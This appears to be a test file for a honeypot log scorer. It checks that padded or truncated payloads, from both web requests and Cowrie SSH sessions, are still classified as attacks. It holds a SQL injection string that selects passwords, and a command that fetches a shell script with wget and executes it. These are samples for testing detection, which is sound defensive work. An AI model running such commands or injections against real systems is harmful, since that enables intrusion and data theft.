/** Size never hides: what is over its limit is kept to it, and judged whole. */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { parseCowrie } from '../../src/ingest/cowrie.ts';
import { parseHoneypotLog } from '../../src/ingest/native.ts';
import { tellingParts } from '../../src/lib/telling-parts.ts';
import { openLocalScorer } from '../../src/score/local.ts';
import { createScoreStream } from '../../src/score/stream.ts';
import { entriesOf, inputOf } from '../support/framing.ts';

const scorer = openLocalScorer();

const log = {
  timestamp: '2026-11-20T10:20:02Z',
  service: 'http',
  source_ip: '203.0.113.50',
  activity: 'http request',
};
const request = (body: string): string =>
  `POST /s HTTP/1.1\r\nHost: shop.example\r\nContent-Length: ${body.length}\r\n\r\n${body}`;
function judge(draft: ReturnType<typeof parseHoneypotLog>) {
  const { verdict } = createScoreStream({ scorer, sessions: false }).take(draft);
  return verdict as { attack_type: string; risk_score: number };
}
const judgeWeb = (payload: string) => judge(parseHoneypotLog({ ...log, payload }));

const sentence = 'the quick brown fox jumps over the lazy dog and runs away into the green woods ';
/** Filling of about 30,000 characters. */
const fillings: [string, string][] = [
  ['one letter', 'x'.repeat(30_000)],
  ['blanks', ' '.repeat(30_000)],
  ['plus signs', '+'.repeat(30_000)],
  ['words', sentence.repeat(380)],
  ['numbers', Array.from({ length: 6000 }, (_, n) => n).join('')],
  ['base64', Buffer.from(sentence.repeat(280)).toString('base64')],
  ['percent signs', '%41'.repeat(10_000)],
  ['parameters', Array.from({ length: 3000 }, (_, n) => `k${n}=v${n}`).join('-')],
  ['letters beyond ASCII', 'ä'.repeat(30_000)],
  [
    'JSON',
    JSON.stringify(Array.from({ length: 1500 }, (_, n) => ({ id: n, name: 'box' }))).replaceAll('&', ''),
  ],
];
const attack = "id=1'+UNION+SELECT+password+FROM+users--+";

describe('a payload over its limit', () => {
  it('is taken, cut and judged whole', async () => {
    const entries = await entriesOf('native', inputOf('padded.ndjson'));
    assert.ok(entries.every(({ status }) => status === 'draft'));
    const padded = entries[1];
    assert.ok(padded?.status === 'draft');
    assert.equal(padded.draft.payload.length, 10_000);
    assert.equal(padded.draft.extra?.payload_length, 12_107);
    assert.match(String(padded.draft.extra?.payload_sha256), /^[0-9a-f]{64}$/);
    const verdict = judge(padded.draft);
    assert.equal(verdict.attack_type, 'SqlInjection');
    assert.ok(verdict.risk_score >= 7);
  });

  const plain = judgeWeb(request(attack));
  assert.equal(plain.attack_type, 'SqlInjection');
  for (const [name, filling] of fillings) {
    const places: [string, string][] = [
      ['before', `a=${filling}&${attack}`],
      ['behind', `${attack}&a=${filling}`],
      ['on both sides', `a=${filling}&${attack}&b=${filling}`],
    ];
    for (const [place, body] of places)
      it(`with ${name} ${place} is judged as the attack alone`, () => {
        const verdict = judgeWeb(request(body));
        assert.equal(verdict.attack_type, plain.attack_type);
        assert.ok(verdict.risk_score >= plain.risk_score, `${verdict.risk_score} < ${plain.risk_score}`);
      });
  }

  it('that is harmless stays so, but for what hides letters', () => {
    for (const [name, filling] of fillings)
      if (name !== 'JSON' && name !== 'percent signs')
        assert.ok(judgeWeb(request(`a=${filling}&b=${filling}`)).risk_score <= 4, name);
  });

  it('across its limit is judged where it lies', () => {
    for (let at = 9940; at <= 10_040; at += 10) {
      const head = request('').length;
      const verdict = judgeWeb(request(`${'x'.repeat(at - head - 1)}&${attack}&b=${'y'.repeat(5000)}`));
      assert.equal(verdict.attack_type, 'SqlInjection', `at ${at}`);
    }
  });

  it('of Cowrie is judged whole too', () => {
    const record = (input: string) => ({
      eventid: 'cowrie.command.input',
      timestamp: '2026-11-20T10:20:02Z',
      src_ip: '203.0.113.50',
      session: 'a',
      input,
    });
    const command = 'cd /tmp; wget http://198.51.100.7/x.sh; chmod 777 x.sh; ./x.sh';
    const short = judge(parseCowrie(record(command)) ?? assert.fail());
    const draft = parseCowrie(record(`echo ${'x'.repeat(12_000)}; ${command}`)) ?? assert.fail();
    assert.equal(draft.payload.length, 10_000);
    assert.ok(judge(draft).risk_score >= short.risk_score);
  });

  it('of a megabyte is judged in bounded time', { timeout: 60_000 }, () => {
    for (const unit of ['x', '<', "' or ", 'select ', '../', '${', '\n', '%2e%2e', 'wget ', '{"a":'])
      judgeWeb(request(unit.repeat(Math.ceil(1_000_000 / unit.length))));
  });
});

describe('the parts that matter', () => {
  it('are the text itself where it fits, and never more than asked for', () => {
    assert.equal(tellingParts('short', 100), 'short');
    for (const [, filling] of fillings)
      for (const most of [1000, 4000, 10_000])
        assert.ok(tellingParts(filling + attack + filling, most).length <= most);
  });

  it('hold a needle anywhere in a megabyte, and the end', () => {
    for (const at of [0, 399, 400, 123_456, 700_000]) {
      const text = `${'lorem ipsum '.repeat(90_000).slice(0, at)}${attack}${'lorem ipsum '.repeat(30_000)}END`;
      const parts = tellingParts(text, 5000);
      assert.ok(parts.includes(attack), `at ${at}`);
      assert.ok(parts.endsWith('END'));
    }
  });
});
